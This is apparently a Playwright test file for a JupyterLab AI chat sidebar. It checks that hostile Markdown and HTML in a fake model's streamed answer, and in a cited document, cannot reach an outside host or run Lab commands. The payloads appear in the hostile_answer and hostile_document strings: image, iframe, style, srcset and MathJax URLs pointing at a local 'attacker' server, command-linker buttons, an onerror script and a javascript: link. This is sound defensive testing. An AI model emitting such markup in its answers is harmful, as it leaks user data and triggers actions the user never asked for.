"""Issue 10, finding 4: nothing the sidebar renders from a model answer or a document can
fetch from another host or run a Lab command.

A real Lab (server extension + the labextension built in this checkout) answers through a
fake OpenAI-compatible server over real HTTP that streams hostile Markdown/HTML; the cited
document carries more of it, shown in the source popovers. The "attacker" is a plain HTTP
server on 127.0.0.1 that counts every request it gets: it must get none.
"""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import nbformat
import pytest

pytest.importorskip("playwright", reason="pip install playwright (Python package; the browser is Debian's chromium)")

from chat_page import ask, drawn, snippet_shown, wait_for_theme  # noqa: E402
from wire_servers import OpenAIWireServer, Turn  # noqa: E402

pytestmark = [pytest.mark.browser, pytest.mark.slow]

QUESTION = "How are quokka tokens minted and rotated?"
NOTEBOOK = "quokka-notes.ipynb"
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"
RED_DOT = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEklEQVR4nGP4"
           "z8CAFWEXHbQSACj/D/Gy/fe8AAAAAElFTkSuQmCC")

GREEN_SVG = ("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='8' height='8'%3E"
             "%3Ccircle cx='4' cy='4' r='4' fill='green'/%3E%3C/svg%3E")


def hostile_answer(attacker: str) -> str:
    """A model answer that tries every way we know to make the page fetch or run something,
    around ordinary Markdown (a link, code, a table) that must still render."""
    svg = ("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='8' height='8'%3E"
           f"%3Cimage href='{attacker}/svg-in-data-image' width='8' height='8'/%3E%3C/svg%3E")
    return f"""Quokka tokens are minted at dawn [1] <img src="{attacker}/img-tag?d=secret" alt="quokka tracker">
and rotated hourly [2].

![quokka chart]({attacker}/markdown-image.png)

<button data-commandlinker-command="help:about" data-commandlinker-args="{{}}">Quokka settings</button>
and <a href="https://example.org/quokka" data-commandlinker-command="help:about">the quokka guide</a>.

<span style="background-image:url({attacker}/style-attribute)">Striped quokka</span>
<style>.athena-answer-body {{ background: url({attacker}/style-element) }}</style>
<link rel="stylesheet" href="{attacker}/link-element">
<iframe src="{attacker}/iframe"></iframe><object data="{attacker}/object"></object><embed src="{attacker}/embed">
<picture><source srcset="{attacker}/source-srcset"><img src="{attacker}/picture-img"
 srcset="{attacker}/img-srcset 2x" alt="quokka picture"></picture>
<video poster="{attacker}/video-poster" src="{attacker}/video"></video><audio src="{attacker}/audio"></audio>
<table background="{attacker}/table-background"><tr><td>quokka cell</td></tr></table>
<form action="{attacker}/form"><input type="image" src="{attacker}/input-image" alt="go"></form>
<svg width="8" height="8"><image href="{attacker}/inline-svg-image" width="8" height="8"></image></svg>
<img src="{svg}" alt="svg dot"> <img src="{RED_DOT}" alt="red dot"> <img src="{GREEN_SVG}" alt="green dot">
<img src="x" onerror="window.__athenaPwned = 'onerror'"> [a js link](javascript:window.__athenaPwned='link')

Math: $\\style{{background-image: url({attacker}/mathjax)}}{{q}}$ and $e^{{i\\pi}} + 1 = 0$.

## Rotating quokka tokens

Call `rotate_tokens()` as [the Flask docs](https://flask.palletsprojects.com/config/) say [1]:

```python
def rotate_tokens(app):
    app.config["SECRET_KEY"] = new_key()  # <img src="{attacker}/in-code">
```

| step | what |
|------|------|
| 1 | mint at dawn |
| 2 | rotate hourly |
"""


def hostile_document(attacker: str) -> str:
    """The cited page: its snippets (hover popovers) carry the same tricks."""
    return f"""# Quokka tokens

Quokka tokens are minted at dawn. <img src="{attacker}/doc-img-tag?d=secret" alt="tracker"> They rotate hourly.

![quokka diagram]({attacker}/doc-markdown-image.png)

## Quokka settings

Quokka settings: <button data-commandlinker-command="help:about">open quokka settings</button>
<span style="background:url({attacker}/doc-style)">quokka</span>
"""


class Attacker:
    """An HTTP server on 127.0.0.1 that records every request; the host a leak would reach."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._httpd.server_address[1]}"

    def __enter__(self) -> Attacker:
        threading.Thread(target=self._httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    with Attacker() as server:
        yield server


@pytest.fixture(scope="module")
def hostile_lab(tmp_path_factory, attacker: Attacker, start_lab) -> Iterator[str]:
    """Lab on a folder holding the hostile page, answering through the fake model."""
    folder = tmp_path_factory.mktemp("leak-root") / "project"
    folder.mkdir()
    (folder / "quokka.md").write_text(hostile_document(attacker.url), encoding="utf-8")
    yield from lab_answering(start_lab, folder, NOTEBOOK, _pieces(hostile_answer(attacker.url)))


def lab_answering(start_lab, folder: Path, notebook: str, pieces: list[str]) -> Iterator[str]:
    """A fixture's body: ``folder`` indexed (lexical only) beside an empty notebook, and a Lab
    on it whose model (a wire-fake OpenAI server) streams ``pieces`` to every question."""
    nb = nbformat.v4.new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                           "language": "python"}})
    nb.cells.append(nbformat.v4.new_markdown_cell("Notes"))
    nbformat.write(nb, folder.parent / notebook)
    lexical = {"ATHENA_EMBEDDING__PROVIDER": "none"}
    subprocess.run([sys.executable, "-m", "athena_lab.cli", "index", str(folder)], check=True, timeout=300,
                   capture_output=True, env={**os.environ, **lexical})
    model = OpenAIWireServer(lambda request: Turn(text=pieces), models=["tiny"])
    with model as base_url:
        settings = {**lexical, "ATHENA_LLM__PROVIDER": "openai", "ATHENA_LLM__BASE_URL": base_url,
                    "ATHENA_LLM__MODEL": "tiny"}
        with start_lab(folder, settings) as url:
            yield url


def _pieces(text: str, size: int = 80) -> list[str]:
    """Streamed in chunks that cut tags in half, as a real model's tokens do."""
    return [text[i:i + size] for i in range(0, len(text), size)]


@pytest.fixture
def leak_page(hostile_lab: str, open_lab_page, attacker: Attacker, request) -> Iterator[object]:
    """A page on the hostile Lab recording every request that leaves Lab's own origin and
    every Lab command that runs."""
    with open_lab_page(hostile_lab, request.node.name) as tab:
        record_foreign_requests(tab, hostile_lab)
        tab.evaluate("""() => { window.__athenaCommands = [];
            window.jupyterapp.commands.commandExecuted.connect((_, args) => window.__athenaCommands.push(args.id)); }""")
        attacker.hits.clear()
        yield tab


def record_foreign_requests(tab, lab_url: str) -> None:
    """Every http(s) request ``tab`` makes to another origin than Lab's, in ``tab.foreign_requests``."""
    lab_origin = urlsplit(lab_url).netloc
    tab.foreign_requests = []
    tab.on("request", lambda r: tab.foreign_requests.append(r.url)
           if urlsplit(r.url).scheme in ("http", "https") and urlsplit(r.url).netloc != lab_origin else None)


def assert_nothing_left(page, attacker: Attacker) -> None:
    # what the page would still load has loaded: images, fonts, MathJax's typesetting
    page.evaluate("""async () => {
      await document.fonts.ready;
      if (window.MathJax && window.MathJax.startup) await window.MathJax.startup.promise;
    }""")
    page.wait_for_function("[...document.images].every(img => img.complete)")
    drawn(page)
    assert attacker.hits == [], f"the attacker's server was reached: {attacker.hits}"
    assert page.foreign_requests == [], f"requests left Lab's origin: {page.foreign_requests}"


def test_hostile_answer_and_snippets_fetch_nothing_and_run_no_command(leak_page, attacker: Attacker) -> None:
    page = leak_page
    answer = ask(page, QUESTION)
    body = answer.locator(".athena-answer-body")
    for citation in answer.locator('[data-testid="athena-citation"]').all():
        citation.hover()
        snippet_shown(page)
    assert answer.locator('[data-testid="athena-citation"]').count() >= 1
    assert_nothing_left(page, attacker)

    chat = page.locator('[data-testid="athena-chat"]')
    assert chat.locator("[data-commandlinker-command], [data-commandlinker-args]").count() == 0
    rendered = chat.locator(".athena-answer-body, .athena-snippet")
    assert rendered.locator("[style], style, link, iframe, object, embed, video, audio, form, input[type=image],"
                        " picture, source, svg image, [srcset], [background], [onerror]").count() == 0
    sources = chat.locator(".athena-answer-body img, .athena-snippet img").evaluate_all(
        "imgs => imgs.map(i => i.getAttribute('src'))")
    assert sources and all(src.startswith("data:image/") for src in sources), sources

    body.get_by_text("Quokka settings").click()
    drawn(page)  # a command a link ran would have run in the click
    commands = page.evaluate("window.__athenaCommands")
    assert "help:about" not in commands, commands
    assert page.locator(".jp-Dialog").count() == 0
    assert page.evaluate("window.__athenaPwned") is None

    # Remote images are offered as links, and ordinary Markdown still renders.
    remote = body.locator("a.athena-remote-image")
    assert {a.get_attribute("href") for a in remote.all()} >= {f"{attacker.url}/markdown-image.png",
                                                               f"{attacker.url}/img-tag?d=secret"}
    guide = body.locator('a[href="https://example.org/quokka"]')
    assert guide.get_attribute("target") == "_blank"
    assert guide.get_attribute("referrerpolicy") == "no-referrer"  # Lab rewrites rel to "noopener"
    assert body.locator('a[href^="javascript:"]').count() == 0
    assert "rotate_tokens" in body.locator("pre code").inner_text()
    assert body.locator("table td").count() >= 4
    assert body.locator(".athena-citation-marker").count() >= 1
    for alt in ("red dot", "green dot"):  # data: images of image types still show
        assert body.locator(f'img[alt="{alt}"]').evaluate("img => img.complete && img.naturalWidth") == 8
    _screenshots(page, answer)
    assert_nothing_left(page, attacker)


def test_inserting_a_hostile_answer_in_a_notebook_fetches_nothing(leak_page, attacker: Attacker) -> None:
    """A notebook's Markdown cell renders with Lab's default sanitizer, which keeps remote
    images and the command linker: the inserted Markdown must carry neither."""
    page = leak_page
    page.evaluate(f"async () => {{ await window.jupyterapp.commands.execute('docmanager:open', {{path: '{NOTEBOOK}'}}); }}")
    page.locator(".jp-Notebook .jp-MarkdownCell").first.wait_for(timeout=60_000)
    answer = ask(page, QUESTION)
    answer.locator(".athena-insert").click()
    cell = page.locator(".jp-Notebook .jp-MarkdownCell.jp-mod-rendered").nth(1).locator(".jp-RenderedMarkdown")
    cell.wait_for(timeout=30_000)
    assert "rotate_tokens" in cell.locator("pre").inner_text()
    cell.screenshot(path=str(ARTIFACTS / "notebook-inserted-hostile-answer.png"))
    assert_nothing_left(page, attacker)
    cell.get_by_text("Quokka settings").first.click()
    drawn(page)  # a command a link ran would have run in the click
    assert "help:about" not in page.evaluate("window.__athenaCommands")
    assert page.locator(".jp-Dialog").count() == 0
    assert cell.locator("[data-commandlinker-command]").count() == 0
    assert page.evaluate("window.__athenaPwned") is None


def _screenshots(page, answer) -> None:
    """The answer in the light and the dark theme, in a tall window with the sidebar
    widened to 500 px so the whole answer shows, for a person to look at."""
    page.set_viewport_size({"width": 1400, "height": 2400})
    handle = page.locator("#jp-main-split-panel > .lm-SplitPanel-handle:visible").first.bounding_box()
    page.mouse.move(handle["x"] + 1, handle["y"] + 200)
    page.mouse.down()
    page.mouse.move(handle["x"] + 250, handle["y"] + 200, steps=5)
    page.mouse.up()
    chat = page.locator('[data-testid="athena-chat"]')
    citation = answer.locator('[data-testid="athena-citation"]').first
    citation.hover()  # its snippet popover shows in the picture
    chat.screenshot(path=str(ARTIFACTS / "sidebar-hostile-answer-light.png"))
    page.evaluate("async () => { await window.jupyterapp.commands.execute('apputils:change-theme', {theme: 'JupyterLab Dark'}); }")
    wait_for_theme(page, light=False)
    citation.hover()
    chat.screenshot(path=str(ARTIFACTS / "sidebar-hostile-answer-dark.png"))
    page.evaluate("async () => { await window.jupyterapp.commands.execute('apputils:change-theme', {theme: 'JupyterLab Light'}); }")
    page.set_viewport_size({"width": 1400, "height": 900})
